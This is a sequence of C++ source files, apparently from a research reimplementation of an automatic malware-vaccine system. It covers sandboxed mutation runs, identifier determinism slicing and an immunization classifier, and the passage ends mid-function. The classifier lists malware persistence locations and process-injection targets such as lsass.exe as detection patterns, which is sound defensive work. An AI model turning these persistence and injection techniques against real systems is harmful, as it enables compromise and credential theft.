    target.identifier = call.resource_identifier;
    target.resource_type = call.resource_type;
    target.operation = call.operation;
    target.natural_success = call.succeeded;
    target.natural_already_existed =
        call.succeeded && call.last_error == os::kErrorAlreadyExists;
    target.anchor_sequence = call.sequence;
    targets.push_back(std::move(target));
  }
  return targets;
}

sandbox::ApiHook MakeMutationHook(const MutationTarget& target) {
  return [target](const sandbox::ApiObservation& obs)
             -> std::optional<sandbox::ForcedOutcome> {
    if (obs.spec->name != target.api_name) return std::nullopt;
    if (obs.caller_pc != target.caller_pc) return std::nullopt;
    if (obs.identifier != target.identifier) return std::nullopt;

    sandbox::ForcedOutcome outcome;
    if (target.SimulatesPresence()) {
      // The resource appears to exist: plain success for opens/reads,
      // success + ALREADY_EXISTS for creates (the infection-marker signal
      // tested via GetLastError).
      outcome.success = true;
      outcome.last_error = target.natural_success &&
                                   target.operation == os::Operation::kCreate
                               ? os::kErrorAlreadyExists
                               : os::kErrorSuccess;
    } else {
      outcome.success = false;
      outcome.last_error = FailureCodeFor(target.operation);
    }
    return outcome;
  };
}

ImpactResult RunImpactAnalysis(const vm::Program& sample,
                               const os::HostEnvironment& baseline_env,
                               const trace::ApiTrace& natural,
                               const MutationTarget& target,
                               const ImpactOptions& options) {
  ImpactResult result;
  result.target = target;

  os::HostEnvironment env = baseline_env;  // fresh machine snapshot
  sandbox::RunOptions run_options;
  run_options.cycle_budget = options.cycle_budget;
  run_options.enable_taint = false;  // second round: behaviour only
  run_options.limits = options.limits;
  run_options.fault_plan = options.fault_plan;

  auto run = sandbox::RunProgram(sample, env, run_options,
                                 {MakeMutationHook(target)});
  result.effect =
      ClassifyImmunization(natural, run.api_trace, options.classifier);
  result.mutated_trace = std::move(run.api_trace);
  result.stop_reason = run.stop_reason;
  result.faults_injected = run.faults_injected;
  return result;
}

std::optional<ImpactResult> TryResumeImpactAnalysis(
    const vm::Program& sample, const sandbox::MachineSnapshot& snapshot,
    const trace::ApiTrace& natural, const MutationTarget& target,
    const ImpactOptions& options) {
  // Equivalence precondition 1: same cycle budget as the capture run.
  if (options.cycle_budget != snapshot.capture_budget) return std::nullopt;

  // Equivalence precondition 2: same fault schedule as the capture run.
  // The legacy re-run would build a fresh injector over options.fault_plan
  // and replay the prefix through it; the snapshot's cursor is equivalent
  // only when it advanced over that very plan.
  const bool want_faults =
      options.fault_plan != nullptr && !options.fault_plan->empty();
  if (want_faults != (snapshot.injector != nullptr)) return std::nullopt;
  if (want_faults && options.fault_plan != &snapshot.injector->plan()) {
    return std::nullopt;
  }

  sandbox::ResumeOptions resume_options;
  resume_options.cycle_budget = options.cycle_budget;
  resume_options.enable_taint = false;  // second round: behaviour only
  resume_options.limits = options.limits;

  auto run = sandbox::ResumeProgram(sample, snapshot, resume_options,
                                    {MakeMutationHook(target)});

  // Defensive check: the first call executed past the snapshot prefix
  // must be the captured triple. (A shorter trace is legitimate — an
  // envelope cap that fires before the call records anything fires
  // identically in the full re-run.)
  const size_t prefix = snapshot.kernel.trace.calls.size();
  if (run.api_trace.calls.size() > prefix) {
    const trace::ApiCallRecord& first = run.api_trace.calls[prefix];
    if (first.api_name != snapshot.api_name ||
        first.caller_pc != snapshot.caller_pc ||
        first.resource_identifier != snapshot.identifier) {
      return std::nullopt;
    }
  }

  ImpactResult result;
  result.target = target;
  result.effect =
      ClassifyImmunization(natural, run.api_trace, options.classifier);
  result.mutated_trace = std::move(run.api_trace);
  result.stop_reason = run.stop_reason;
  result.faults_injected = run.faults_injected;
  return result;
}

}  // namespace autovac::analysis
