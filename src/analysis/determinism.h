// Determinism analysis (§IV-C): given a resource-identifier used by an
// API call, decide whether it is static, partial static, algorithm-
// deterministic, or entirely random, and extract an independent,
// executable program slice that regenerates it (the Inspector Gadget-
// style replay the vaccine daemon runs on each end host).
//
// Two passes over the logged instruction trace:
//   * a forward origin pass tags every byte as Static / Environment /
//     Random (constants and .rdata are static; GetComputerNameA output is
//     environment; GetTempFileNameA / rand / recv output is random);
//   * a backward dynamic-slicing pass collects exactly the instructions
//     and API calls that contributed to the identifier bytes.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "support/pattern.h"
#include "support/status.h"
#include "trace/trace.h"
#include "vm/program.h"

namespace autovac::analysis {

// The paper's identifier taxonomy (§II-A).
enum class IdentifierClass : uint8_t {
  kStatic = 0,
  kPartialStatic,
  kAlgorithmDeterministic,
  kNonDeterministic,
};

[[nodiscard]] std::string_view IdentifierClassName(IdentifierClass cls);

// Byte-origin classes from the forward pass, ordered by "severity".
enum class ByteOrigin : uint8_t { kStatic = 0, kEnvironment = 1, kRandom = 2 };

struct DeterminismOptions {
  // A partial-static identifier must keep at least this many literal
  // characters to be "distinguishable"; otherwise it is non-deterministic.
  size_t min_literal_chars = 4;

  // Propagate byte origins through control dependences (the §VII future
  // work, mirroring TaintEngineOptions::track_control_dependence): a
  // value written under a branch whose predicate derives from the
  // environment is itself environment-derived. Defeats the
  // branch-ladder laundering evasion for *classification*; extracting a
  // replayable slice through control dependences remains future work.
  bool track_control_dependence = false;
};

struct DeterminismReport {
  IdentifierClass cls = IdentifierClass::kStatic;
  std::string identifier;       // concrete value on the analysis machine
  std::string origin_map;       // per identifier char: 'S' / 'E' / 'R'
  Pattern pattern;              // wildcard pattern (for partial static)
  // Indices into the instruction trace forming the backward slice.
  std::vector<uint32_t> slice_records;
  // API sequences contributing data to the identifier.
  std::vector<uint32_t> contributing_apis;

  DeterminismReport() : pattern(Pattern::Literal("")) {}
};

// Anchors at the API call `api_sequence` (must have identifier_addr set).
[[nodiscard]] Result<DeterminismReport> AnalyzeIdentifier(
    const trace::InstructionTrace& inst_trace,
    const trace::ApiTrace& api_trace, uint32_t api_sequence,
    const DeterminismOptions& options = {});

// An executable identifier-regeneration slice.
struct VaccineSlice {
  vm::Program program;
  uint32_t output_addr = 0;  // where the regenerated identifier lands
  uint32_t output_len = 0;
};

// Builds the runnable slice from a report's slice_records. The original
// program supplies the data image (.rdata literals the slice reads).
[[nodiscard]] Result<VaccineSlice> ExtractSlice(
    const vm::Program& original, const trace::InstructionTrace& inst_trace,
    const trace::ApiTrace& api_trace, const DeterminismReport& report,
    uint32_t api_sequence);

}  // namespace autovac::analysis
