#include "analysis/determinism.h"

#include <algorithm>
#include <array>
#include <set>

#include "sandbox/api_ids.h"
#include "support/strings.h"
#include "vm/isa.h"
#include "vm/memory.h"

namespace autovac::analysis {
namespace {

using vm::Op;
using vm::Reg;

ByteOrigin Max(ByteOrigin a, ByteOrigin b) { return a > b ? a : b; }

char OriginChar(ByteOrigin origin) {
  switch (origin) {
    case ByteOrigin::kStatic: return 'S';
    case ByteOrigin::kEnvironment: return 'E';
    case ByteOrigin::kRandom: return 'R';
  }
  return '?';
}

ByteOrigin FromDataOrigin(trace::DataOrigin origin) {
  return origin == trace::DataOrigin::kEnvironment ? ByteOrigin::kEnvironment
                                                   : ByteOrigin::kRandom;
}

// ---------------------------------------------------------------------
// Forward origin pass: per-byte / per-register origin propagation that
// mirrors the taint engine's rules but carries three origin classes.
// ---------------------------------------------------------------------
class OriginTracker {
 public:
  explicit OriginTracker(bool track_control_dependence = false)
      : track_control_(track_control_dependence),
        mem_(vm::kMemSize, ByteOrigin::kStatic) {}

  void Step(const trace::InstructionRecord& record,
            const trace::ApiTrace& api_trace) {
    const vm::StepInfo& step = record.step;
    const vm::Instruction& inst = step.inst;

    // Control-dependence extension: a conditional forward branch on
    // environment/random-derived flags opens a region in which written
    // values inherit that origin.
    const ByteOrigin control = track_control_ && step.pc >= region_start_ &&
                                       step.pc < region_end_
                                   ? region_origin_
                                   : ByteOrigin::kStatic;
    if (track_control_) {
      const bool conditional =
          inst.op == Op::kJz || inst.op == Op::kJnz || inst.op == Op::kJg ||
          inst.op == Op::kJl || inst.op == Op::kJge || inst.op == Op::kJle;
      if (conditional && flags_ != ByteOrigin::kStatic) {
        const auto target = static_cast<uint32_t>(inst.imm);
        if (target > step.pc) {
          region_origin_ = Max(region_origin_, flags_);
          if (step.branch_taken) {
            const uint32_t span = std::max<uint32_t>(target - step.pc - 1, 1);
            region_start_ = target;
            region_end_ = target + span;
          } else {
            region_start_ = step.pc + 1;
            region_end_ = target;
          }
        }
      } else if (step.pc >= region_end_) {
        region_origin_ = ByteOrigin::kStatic;
        region_start_ = region_end_ = 0;
      }
    }

    switch (inst.op) {
      case Op::kMovRI:
        SetReg(inst.r1, control);
        break;
      case Op::kMovRR:
      case Op::kLea:
        SetReg(inst.r1, Max(RegOrigin(inst.r2), control));
        break;
      case Op::kLoad:
      case Op::kLoadB:
        SetReg(inst.r1,
               Max(RangeOrigin(step.mem_addr, step.mem_size), control));
        break;
      case Op::kStore:
      case Op::kStoreB:
        SetRange(step.mem_addr, step.mem_size,
                 Max(RegOrigin(inst.r2), control));
        break;
      case Op::kPushR:
        SetRange(step.mem_addr, step.mem_size,
                 Max(RegOrigin(inst.r1), control));
        break;
      case Op::kPushI:
      case Op::kCall:
        SetRange(step.mem_addr, step.mem_size, ByteOrigin::kStatic);
        break;
      case Op::kPopR:
        SetReg(inst.r1, RangeOrigin(step.mem_addr, step.mem_size));
        break;
      case Op::kXorRR:
        if (inst.r1 == inst.r2) {
          SetReg(inst.r1, ByteOrigin::kStatic);
          flags_ = ByteOrigin::kStatic;
          break;
        }
        [[fallthrough]];
      case Op::kAddRR: case Op::kSubRR: case Op::kAndRR: case Op::kOrRR:
      case Op::kMulRR:
        SetReg(inst.r1, Max(RegOrigin(inst.r1), RegOrigin(inst.r2)));
        flags_ = RegOrigin(inst.r1);
        break;
      case Op::kCmpRR:
      case Op::kTestRR:
        flags_ = Max(RegOrigin(inst.r1), RegOrigin(inst.r2));
        break;
      case Op::kCmpRI:
      case Op::kTestRI:
        flags_ = RegOrigin(inst.r1);
        break;
      case Op::kAddRI: case Op::kSubRI: case Op::kXorRI: case Op::kAndRI:
      case Op::kOrRI: case Op::kMulRI: case Op::kShlRI: case Op::kShrRI:
      case Op::kNotR: case Op::kNegR: case Op::kIncR: case Op::kDecR:
        flags_ = RegOrigin(inst.r1);
        break;
      case Op::kSys:
        StepSys(record, api_trace);
        break;
      default:
        break;  // pushes/pops/branches handled above or carry no origin
    }
  }

  [[nodiscard]] ByteOrigin RangeOrigin(uint32_t addr, uint32_t size) const {
    ByteOrigin origin = ByteOrigin::kStatic;
    for (uint32_t i = 0; i < size && addr + i < mem_.size(); ++i) {
      origin = Max(origin, mem_[addr + i]);
    }
    return origin;
  }

  [[nodiscard]] ByteOrigin ByteAt(uint32_t addr) const {
    return addr < mem_.size() ? mem_[addr] : ByteOrigin::kStatic;
  }

 private:
  void StepSys(const trace::InstructionRecord& record,
               const trace::ApiTrace& api_trace) {
    if (record.api_sequence >= api_trace.calls.size()) return;
    const trace::ApiCallRecord& call = api_trace.calls[record.api_sequence];

    for (const trace::DataFlow& flow : call.flows) {
      if (flow.dst_len == flow.src_len) {
        for (uint32_t i = 0; i < flow.dst_len; ++i) {
          SetByte(flow.dst + i, ByteAt(flow.src + i));
        }
      } else {
        SetRange(flow.dst, flow.dst_len,
                 RangeOrigin(flow.src, flow.src_len));
      }
    }
    for (const trace::DataDefine& define : call.defines) {
      SetRange(define.dst, define.len, FromDataOrigin(define.origin));
    }

    // EAX origin.
    ByteOrigin eax = ByteOrigin::kStatic;
    auto id = sandbox::FindApiByName(call.api_name);
    if (id.has_value()) {
      const sandbox::ApiSpec& spec = sandbox::GetApiSpec(*id);
      if (spec.determinism == sandbox::ApiDeterminism::kEnvironment) {
        eax = ByteOrigin::kEnvironment;
      } else if (spec.determinism == sandbox::ApiDeterminism::kRandom) {
        eax = ByteOrigin::kRandom;
      } else if (!call.eax_sources.empty()) {
        for (const auto& span : call.eax_sources) {
          eax = Max(eax, RangeOrigin(span.addr, span.len));
        }
      } else if (spec.is_resource_api || call.api_name == "GetLastError") {
        // Handle values / resource state reflect the machine environment.
        eax = ByteOrigin::kEnvironment;
      }
    }
    SetReg(Reg::kEax, eax);
  }

  void SetReg(Reg reg, ByteOrigin origin) {
    if (reg != Reg::kNone) regs_[static_cast<size_t>(reg)] = origin;
  }
  [[nodiscard]] ByteOrigin RegOrigin(Reg reg) const {
    return reg == Reg::kNone ? ByteOrigin::kStatic
                             : regs_[static_cast<size_t>(reg)];
  }
  void SetByte(uint32_t addr, ByteOrigin origin) {
    if (addr < mem_.size()) mem_[addr] = origin;
  }
  void SetRange(uint32_t addr, uint32_t size, ByteOrigin origin) {
    for (uint32_t i = 0; i < size && addr + i < mem_.size(); ++i) {
      mem_[addr + i] = origin;
    }
  }

  bool track_control_ = false;
  ByteOrigin flags_ = ByteOrigin::kStatic;
  ByteOrigin region_origin_ = ByteOrigin::kStatic;
  uint32_t region_start_ = 0;
  uint32_t region_end_ = 0;
  std::array<ByteOrigin, vm::kNumRegs> regs_{};
  std::vector<ByteOrigin> mem_;
};

// ---------------------------------------------------------------------
// Backward dynamic slice.
// ---------------------------------------------------------------------
struct Workset {
  std::set<uint32_t> mem;
  uint32_t reg_mask = 0;

  void AddReg(Reg reg) {
    if (reg != Reg::kNone) reg_mask |= 1u << static_cast<uint32_t>(reg);
  }
  void RemoveReg(Reg reg) {
    if (reg != Reg::kNone) reg_mask &= ~(1u << static_cast<uint32_t>(reg));
  }
  [[nodiscard]] bool HasReg(Reg reg) const {
    return reg != Reg::kNone &&
           (reg_mask & (1u << static_cast<uint32_t>(reg))) != 0;
  }
  void AddRange(uint32_t addr, uint32_t len) {
    for (uint32_t i = 0; i < len; ++i) mem.insert(addr + i);
  }
  // Returns true when [addr, addr+len) intersects; removes the overlap.
  bool TakeRange(uint32_t addr, uint32_t len) {
    bool hit = false;
    for (uint32_t i = 0; i < len; ++i) {
      hit |= mem.erase(addr + i) > 0;
    }
    return hit;
  }
};

}  // namespace

std::string_view IdentifierClassName(IdentifierClass cls) {
  switch (cls) {
    case IdentifierClass::kStatic: return "static";
    case IdentifierClass::kPartialStatic: return "partial-static";
    case IdentifierClass::kAlgorithmDeterministic:
      return "algorithm-deterministic";
    case IdentifierClass::kNonDeterministic: return "non-deterministic";
  }
  return "?";
}

Result<DeterminismReport> AnalyzeIdentifier(
    const trace::InstructionTrace& inst_trace,
    const trace::ApiTrace& api_trace, uint32_t api_sequence,
    const DeterminismOptions& options) {
  if (api_sequence >= api_trace.calls.size()) {
    return Status::OutOfRange("api_sequence beyond trace");
  }
  const trace::ApiCallRecord& anchor = api_trace.calls[api_sequence];
  if (anchor.identifier_addr == 0 || anchor.identifier_len == 0) {
    return Status::FailedPrecondition(
        "anchor call has no in-memory identifier (handle-based API?)");
  }

  // Locate the anchoring `sys` record in the instruction trace.
  size_t anchor_index = inst_trace.records.size();
  for (size_t i = 0; i < inst_trace.records.size(); ++i) {
    if (inst_trace.records[i].api_sequence == api_sequence) {
      anchor_index = i;
      break;
    }
  }
  if (anchor_index == inst_trace.records.size()) {
    return Status::NotFound("anchor API not present in instruction trace");
  }

  DeterminismReport report;
  report.identifier = anchor.resource_identifier;

  // ---- forward origin pass up to (excluding) the anchor ---------------
  OriginTracker origins(options.track_control_dependence);
  for (size_t i = 0; i < anchor_index; ++i) {
    origins.Step(inst_trace.records[i], api_trace);
  }
  const uint32_t value_len =
      anchor.identifier_len > 0 ? anchor.identifier_len - 1 : 0;  // sans NUL
  bool any_env = false;
  bool any_random = false;
  std::string pattern_text;
  size_t literal_chars = 0;
  bool in_wildcard_run = false;
  for (uint32_t i = 0; i < value_len; ++i) {
    const ByteOrigin origin = origins.ByteAt(anchor.identifier_addr + i);
    report.origin_map.push_back(OriginChar(origin));
    if (origin == ByteOrigin::kStatic) {
      const char c = report.identifier[i];
      if (c == '*' || c == '?' || c == '\\') pattern_text.push_back('\\');
      pattern_text.push_back(c);
      ++literal_chars;
      in_wildcard_run = false;
    } else {
      any_env |= origin == ByteOrigin::kEnvironment;
      any_random |= origin == ByteOrigin::kRandom;
      if (!in_wildcard_run) pattern_text.push_back('*');
      in_wildcard_run = true;
    }
  }

  if (any_random) {
    report.cls = literal_chars >= options.min_literal_chars
                     ? IdentifierClass::kPartialStatic
                     : IdentifierClass::kNonDeterministic;
  } else if (any_env) {
    report.cls = IdentifierClass::kAlgorithmDeterministic;
  } else {
    report.cls = IdentifierClass::kStatic;
  }
  auto pattern = Pattern::Compile(pattern_text);
  if (pattern.ok()) report.pattern = std::move(pattern).value();

  // ---- backward dynamic slice ------------------------------------------
  Workset workset;
  workset.AddRange(anchor.identifier_addr, anchor.identifier_len);
  std::set<uint32_t> slice;
  std::set<uint32_t> contributing;

  for (size_t i = anchor_index; i-- > 0;) {
    const trace::InstructionRecord& record = inst_trace.records[i];
    const vm::StepInfo& step = record.step;
    const vm::Instruction& inst = step.inst;

    if (inst.op == Op::kSys) {
      if (record.api_sequence >= api_trace.calls.size()) continue;
      const trace::ApiCallRecord& call = api_trace.calls[record.api_sequence];
      bool hit = false;
      // Defines are terminal sources; flows continue into their inputs.
      for (const trace::DataDefine& define : call.defines) {
        hit |= workset.TakeRange(define.dst, define.len);
      }
      std::vector<const trace::DataFlow*> hit_flows;
      for (const trace::DataFlow& flow : call.flows) {
        if (workset.TakeRange(flow.dst, flow.dst_len)) {
          hit = true;
          hit_flows.push_back(&flow);
        }
      }
      bool eax_hit = false;
      if (workset.HasReg(Reg::kEax)) {
        eax_hit = true;
        hit = true;
        workset.RemoveReg(Reg::kEax);
      }
      if (!hit) continue;
      slice.insert(static_cast<uint32_t>(i));
      contributing.insert(record.api_sequence);
      for (const trace::DataFlow* flow : hit_flows) {
        workset.AddRange(flow->src, flow->src_len);
      }
      if (eax_hit) {
        for (const auto& span : call.eax_sources) {
          workset.AddRange(span.addr, span.len);
        }
      }
      // Replaying the call needs its argument slots (pointers, sizes);
      // step.u1 carries ESP at trap time (see Cpu::Step).
      workset.AddRange(step.u1, 4u * call.stack_args_used);
      continue;
    }

    const vm::OpInfo& info = vm::GetOpInfo(inst.op);
    bool hit = false;
    if (info.writes_r1 && workset.HasReg(inst.r1)) {
      hit = true;
      // r1 also read by ALU RR/RI & unary forms: re-added below via uses.
      workset.RemoveReg(inst.r1);
    }
    if (info.writes_mem && step.mem_size > 0 &&
        workset.TakeRange(step.mem_addr, step.mem_size)) {
      hit = true;
    }
    if (!hit) continue;
    slice.insert(static_cast<uint32_t>(i));

    switch (inst.op) {
      case Op::kMovRI:
      case Op::kPushI:
        break;  // constant terminal
      case Op::kMovRR:
      case Op::kLea:
        workset.AddReg(inst.r2);
        break;
      case Op::kLoad:
      case Op::kLoadB:
        workset.AddRange(step.mem_addr, step.mem_size);
        // Address registers feed replay correctness.
        workset.AddReg(inst.r2);
        break;
      case Op::kStore:
      case Op::kStoreB:
        workset.AddReg(inst.r2);
        workset.AddReg(inst.r1);  // address base
        break;
      case Op::kPushR:
        workset.AddReg(inst.r1);
        break;
      case Op::kPopR:
        workset.AddRange(step.mem_addr, step.mem_size);
        break;
      case Op::kXorRR:
        if (inst.r1 == inst.r2) break;  // zeroing idiom: constant
        workset.AddReg(inst.r1);
        workset.AddReg(inst.r2);
        break;
      case Op::kAddRR: case Op::kSubRR: case Op::kAndRR: case Op::kOrRR:
      case Op::kMulRR:
        workset.AddReg(inst.r1);
        workset.AddReg(inst.r2);
        break;
      case Op::kAddRI: case Op::kSubRI: case Op::kXorRI: case Op::kAndRI:
      case Op::kOrRI: case Op::kMulRI: case Op::kShlRI: case Op::kShrRI:
      case Op::kNotR: case Op::kNegR: case Op::kIncR: case Op::kDecR:
        workset.AddReg(inst.r1);
        break;
      default:
        break;
    }
  }

  report.slice_records.assign(slice.begin(), slice.end());
  report.contributing_apis.assign(contributing.begin(), contributing.end());
  return report;
}

Result<VaccineSlice> ExtractSlice(const vm::Program& original,
                                  const trace::InstructionTrace& inst_trace,
                                  const trace::ApiTrace& api_trace,
                                  const DeterminismReport& report,
                                  uint32_t api_sequence) {
  (void)api_trace;
  if (api_sequence >= api_trace.calls.size()) {
    return Status::OutOfRange("api_sequence beyond trace");
  }
  const trace::ApiCallRecord& anchor = api_trace.calls[api_sequence];

  VaccineSlice slice;
  slice.output_addr = anchor.identifier_addr;
  slice.output_len = anchor.identifier_len;
  slice.program.name = "slice";
  slice.program.data = original.data;  // .rdata literals + buffer layout

  for (uint32_t index : report.slice_records) {
    if (index >= inst_trace.records.size()) {
      return Status::OutOfRange("slice record index beyond trace");
    }
    const vm::Instruction& inst = inst_trace.records[index].step.inst;
    const vm::OpInfo& info = vm::GetOpInfo(inst.op);
    if (info.is_branch || inst.op == Op::kHlt) continue;  // linearized
    slice.program.code.push_back(inst);
  }
  slice.program.code.push_back({Op::kHlt, Reg::kNone, Reg::kNone, 0});
  return slice;
}

}  // namespace autovac::analysis
