// Immunization-effect classification (§IV-B): given a natural trace and a
// mutated trace, decide whether the mutated resource would make a full
// immunization vaccine (malware kills itself), one of the four partial
// types (kernel injection / massive network / persistence / benign-
// process injection disabled), or nothing.
#pragma once

#include <string_view>

#include "analysis/alignment.h"
#include "trace/trace.h"

namespace autovac::analysis {

enum class ImmunizationType : uint8_t {
  kNone = 0,
  kFull,
  kTypeIKernelInjection,
  kTypeIINetwork,
  kTypeIIIPersistence,
  kTypeIVProcessInjection,
};

[[nodiscard]] std::string_view ImmunizationTypeName(ImmunizationType type);
// Short column label as in Table IV: Full, Type-I ... Type-IV.
[[nodiscard]] std::string_view ImmunizationTypeLabel(ImmunizationType type);

struct ImmunizationEffect {
  ImmunizationType type = ImmunizationType::kNone;
  // Supporting evidence (API names from the Δ sets) for reports.
  std::vector<std::string> evidence;
};

struct ClassifierOptions {
  // Minimum network-related calls lost from the natural run for Type-II.
  size_t min_network_calls = 3;
  AlignmentOptions alignment;
};

[[nodiscard]] ImmunizationEffect ClassifyImmunization(
    const trace::ApiTrace& natural, const trace::ApiTrace& mutated,
    const ClassifierOptions& options = {});

// --- building blocks (exposed for tests) --------------------------------

// Is this call a self-termination (ExitProcess/ExitThread/Terminate*)?
[[nodiscard]] bool IsTerminationCall(const trace::ApiCallRecord& call);

// Kernel-driver injection evidence: OpenSCManagerA / CreateServiceA, or a
// file create whose name ends in ".sys" (§IV-B Type-I).
[[nodiscard]] bool IsKernelInjectionCall(const trace::ApiCallRecord& call);

// Autostart persistence evidence: Run-key registry writes, startup-folder
// or system.ini file operations, service creation, winlogon access.
[[nodiscard]] bool IsPersistenceCall(const trace::ApiCallRecord& call);

// Injection into benign processes (explorer.exe, svchost.exe, ...).
[[nodiscard]] bool IsProcessInjectionCall(const trace::ApiCallRecord& call);

// Network-related (spec flag).
[[nodiscard]] bool IsNetworkCall(const trace::ApiCallRecord& call);

}  // namespace autovac::analysis
