// API-trace alignment (the paper's Algorithm 1, after Zeller's program
// alignment): align calls whose execution context — the triple
// <API-name, Caller-PC, parameter list> — is equivalent, and return the
// unaligned difference sets Δm (mutated-only) and Δn (natural-only).
//
// We align with a longest-common-subsequence over the context triples,
// which subsumes the paper's linear anchor search and stays stable when
// the mutation changes an early branch.
#pragma once

#include <cstdint>
#include <vector>

#include "trace/trace.h"

namespace autovac::analysis {

struct AlignmentOptions {
  // Drop the caller-PC from the context triple (ablation: the paper logs
  // it "for the preciseness").
  bool use_caller_pc = true;
  // Compare the static parameter component (we use the resolved resource
  // identifier, the parameter that is stable across runs).
  bool use_identifier = true;
};

struct Alignment {
  // Pairs of aligned indices (natural_index, mutated_index), ascending.
  std::vector<std::pair<uint32_t, uint32_t>> matches;
  // Unaligned calls, as indices into the respective traces.
  std::vector<uint32_t> delta_natural;   // Δn
  std::vector<uint32_t> delta_mutated;   // Δm

  [[nodiscard]] double MatchRatio(size_t natural_size) const {
    return natural_size == 0
               ? 1.0
               : static_cast<double>(matches.size()) /
                     static_cast<double>(natural_size);
  }
};

[[nodiscard]] Alignment AlignTraces(const trace::ApiTrace& natural,
                                    const trace::ApiTrace& mutated,
                                    const AlignmentOptions& options = {});

// Context-triple equivalence used by the LCS.
[[nodiscard]] bool CallsAligned(const trace::ApiCallRecord& a,
                                const trace::ApiCallRecord& b,
                                const AlignmentOptions& options);

}  // namespace autovac::analysis
