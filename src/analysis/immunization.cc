#include "analysis/immunization.h"

#include "sandbox/api_ids.h"
#include "support/strings.h"
#include "support/tracing.h"

namespace autovac::analysis {

std::string_view ImmunizationTypeName(ImmunizationType type) {
  switch (type) {
    case ImmunizationType::kNone: return "No Immunization";
    case ImmunizationType::kFull: return "Full Immunization";
    case ImmunizationType::kTypeIKernelInjection:
      return "Disable Kernel Injection";
    case ImmunizationType::kTypeIINetwork:
      return "Disable Massive Network Behavior";
    case ImmunizationType::kTypeIIIPersistence:
      return "Disable Malware Persistence";
    case ImmunizationType::kTypeIVProcessInjection:
      return "Disable Benign Process Injection";
  }
  return "?";
}

std::string_view ImmunizationTypeLabel(ImmunizationType type) {
  switch (type) {
    case ImmunizationType::kNone: return "None";
    case ImmunizationType::kFull: return "Full";
    case ImmunizationType::kTypeIKernelInjection: return "Type-I";
    case ImmunizationType::kTypeIINetwork: return "Type-II";
    case ImmunizationType::kTypeIIIPersistence: return "Type-III";
    case ImmunizationType::kTypeIVProcessInjection: return "Type-IV";
  }
  return "?";
}

bool IsTerminationCall(const trace::ApiCallRecord& call) {
  return call.api_name == "ExitProcess" || call.api_name == "ExitThread" ||
         call.api_name == "TerminateThread" ||
         (call.api_name == "TerminateProcess" && call.succeeded &&
          call.params.size() == 1 &&
          (call.params[0] == "0xffffffff" ||
           call.resource_identifier.empty()));
}

bool IsKernelInjectionCall(const trace::ApiCallRecord& call) {
  // CreateServiceA loads a kernel driver when its binary is a .sys image;
  // plain service creation is persistence, not kernel injection.
  if (call.api_name == "CreateServiceA" && call.params.size() >= 3 &&
      ToLower(call.params[2]).find(".sys") != std::string::npos) {
    return true;
  }
  // "some malware commonly copies itself as a new file with its name
  // ending with .sys" (§IV-B).
  if (call.resource_type == os::ResourceType::kFile &&
      (call.operation == os::Operation::kCreate ||
       call.operation == os::Operation::kWrite)) {
    const std::string lower = ToLower(call.resource_identifier);
    if (lower.size() >= 4 && lower.substr(lower.size() - 4) == ".sys") {
      return true;
    }
  }
  return false;
}

bool IsPersistenceCall(const trace::ApiCallRecord& call) {
  const std::string lower = ToLower(call.resource_identifier);
  if (call.resource_type == os::ResourceType::kRegistry &&
      (call.operation == os::Operation::kWrite ||
       call.operation == os::Operation::kCreate)) {
    if (lower.find("\\run") != std::string::npos ||
        lower.find("winlogon") != std::string::npos ||
        lower.find("currentcontrolset\\services") != std::string::npos) {
      return true;
    }
  }
  if (call.resource_type == os::ResourceType::kFile &&
      (call.operation == os::Operation::kCreate ||
       call.operation == os::Operation::kWrite)) {
    if (lower.find("startup") != std::string::npos ||
        lower.find("system.ini") != std::string::npos ||
        lower.find("autoexec") != std::string::npos) {
      return true;
    }
  }
  if (call.api_name == "CreateServiceA") return true;
  return false;
}

bool IsProcessInjectionCall(const trace::ApiCallRecord& call) {
  if (call.api_name != "WriteProcessMemory" &&
      call.api_name != "CreateRemoteThread" &&
      call.api_name != "VirtualAllocEx" && call.api_name != "OpenProcess") {
    return false;
  }
  const std::string lower = ToLower(call.resource_identifier);
  return lower.find("explorer.exe") != std::string::npos ||
         lower.find("svchost.exe") != std::string::npos ||
         lower.find("winlogon.exe") != std::string::npos ||
         lower.find("lsass.exe") != std::string::npos;
}

bool IsNetworkCall(const trace::ApiCallRecord& call) {
  auto id = sandbox::FindApiByName(call.api_name);
  if (!id.has_value()) return false;
  return sandbox::GetApiSpec(*id).is_network;
}

ImmunizationEffect ClassifyImmunization(const trace::ApiTrace& natural,
                                        const trace::ApiTrace& mutated,
                                        const ClassifierOptions& options) {
  Alignment alignment;
  {
    ScopedSpan span(GlobalTracer(), "alignment");
    alignment = AlignTraces(natural, mutated, options.alignment);
  }

  ImmunizationEffect effect;

  // Full immunization: the mutated run self-terminates in the unaligned
  // suffix ("the malware has killed itself").
  for (uint32_t index : alignment.delta_mutated) {
    const trace::ApiCallRecord& call = mutated.calls[index];
    if (IsTerminationCall(call)) {
      effect.type = ImmunizationType::kFull;
      effect.evidence.push_back(call.api_name);
      return effect;
    }
  }

  // Partial immunization: important behaviour present in the natural run
  // but missing from the mutated one (evidence lives in Δn).
  size_t kernel_injection = 0;
  size_t network = 0;
  size_t persistence = 0;
  size_t process_injection = 0;
  std::vector<std::string> kernel_evidence;
  std::vector<std::string> network_evidence;
  std::vector<std::string> persistence_evidence;
  std::vector<std::string> injection_evidence;

  for (uint32_t index : alignment.delta_natural) {
    const trace::ApiCallRecord& call = natural.calls[index];
    if (!call.succeeded) continue;  // only lost *successful* behaviour
    if (IsKernelInjectionCall(call)) {
      ++kernel_injection;
      kernel_evidence.push_back(call.api_name);
    }
    if (IsNetworkCall(call)) {
      ++network;
      network_evidence.push_back(call.api_name);
    }
    if (IsPersistenceCall(call)) {
      ++persistence;
      persistence_evidence.push_back(call.api_name);
    }
    if (IsProcessInjectionCall(call)) {
      ++process_injection;
      injection_evidence.push_back(call.api_name);
    }
  }

  // Priority follows the paper's Type ordering.
  if (kernel_injection > 0) {
    effect.type = ImmunizationType::kTypeIKernelInjection;
    effect.evidence = std::move(kernel_evidence);
  } else if (network >= options.min_network_calls) {
    effect.type = ImmunizationType::kTypeIINetwork;
    effect.evidence = std::move(network_evidence);
  } else if (persistence > 0) {
    effect.type = ImmunizationType::kTypeIIIPersistence;
    effect.evidence = std::move(persistence_evidence);
  } else if (process_injection > 0) {
    effect.type = ImmunizationType::kTypeIVProcessInjection;
    effect.evidence = std::move(injection_evidence);
  }
  return effect;
}

}  // namespace autovac::analysis
