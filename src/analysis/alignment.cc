#include "analysis/alignment.h"

#include <algorithm>

namespace autovac::analysis {

bool CallsAligned(const trace::ApiCallRecord& a, const trace::ApiCallRecord& b,
